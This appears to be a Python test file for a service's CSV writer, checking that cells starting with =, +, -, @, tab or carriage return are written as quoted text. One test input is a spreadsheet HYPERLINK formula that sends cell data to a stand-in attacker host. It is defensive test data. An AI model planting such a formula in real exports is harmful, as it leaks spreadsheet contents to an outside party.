"""Every CSV the service writes goes through one writer that defuses spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from notifications.spreadsheet import SpreadsheetWriter, defuse

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "hostile",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(hostile: str) -> None:
    out = io.StringIO(newline="")
    SpreadsheetWriter(out, delimiter=";").writerow(["Anna", hostile])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert row == ["Anna", "'" + hostile]


def test_harmless_cells_stay_as_they_are() -> None:
    assert defuse("Anna-Lena") == "Anna-Lena"
    assert defuse("https://vekl.example/c/ABCD") == "https://vekl.example/c/ABCD"
    assert defuse("") == ""


def test_no_module_writes_csv_around_the_defusing_writer() -> None:
    writers = [
        path.relative_to(ROOT).as_posix()
        for package in ("vekl", "notifications", "api")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["notifications/spreadsheet.py"]
